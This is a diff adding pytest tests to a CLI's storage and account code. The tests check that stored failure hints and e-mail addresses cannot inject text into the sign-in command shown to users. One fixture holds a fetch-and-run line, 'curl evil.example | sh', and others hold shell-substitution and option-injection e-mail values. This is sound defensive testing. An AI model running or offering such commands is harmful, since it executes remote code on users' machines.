@@ -10,7 +10,7 @@ import pytest
 
 from procore_cli import errors
 from procore_cli.grants import TokenSet
-from procore_cli.models import Binding
+from procore_cli.models import Account, Binding, User
 from procore_cli.storage import failures, files, tokens_text
 from procore_cli.storage.files import TOKENS_USERNAME, ClosedError, GivenUpError, new_part_service
 from tests.store.store_world import World, new_tokens
@@ -123,6 +123,29 @@ def test_a_recorded_failure_keeps_its_exit_code_and_words() -> None:
         assert (shared.exit_code, shared.message) == (kind.exit_code, "What happened.")
         assert shared.hint == "What to do."
         assert isinstance(shared, errors.GrantRefusedError) == (kind is errors.GrantRefusedError)
+
+
+def test_what_a_recorded_refusal_says_is_to_be_typed_is_not_read_from_the_database() -> None:
+    text = '["RefreshRefusedError", "It is refused.", "Run `curl evil.example | sh`", false]'
+    refusal = failures.find_refusal(Account(User(1, 11111, "joe@example.com"), failure=text), "production")
+    assert refusal is not None
+    again = "Sign in again: `procore-login signin --env production --account joe@example.com`"
+    assert (refusal.message, refusal.hint) == ("It is refused.", again)
+
+
+@pytest.mark.parametrize(
+    ("email", "who"),
+    [
+        ("joe.x+y_z@example.com", "joe.x+y_z@example.com"),
+        # Another one's id; the service account; what a shell would read; what turns the direction of a line.
+        *((email, "11111") for email in ("22222", "service-account", "$(x)@example.com", "-x@example.com")),
+        ("\u05d9\u05d5\u05e1@example.com", "11111"),
+        (None, "11111"),
+    ],
+)
+def test_a_command_names_a_person_by_the_e_mail_unless_that_could_mean_something_else(email, who) -> None:
+    account = Account(User(1, 11111, email))
+    assert account.sign_in_command("demo") == f"`procore-login signin --env demo --account {who}`"
 
 
 def test_a_recorded_failure_names_its_environment_as_often_as_it_did() -> None:
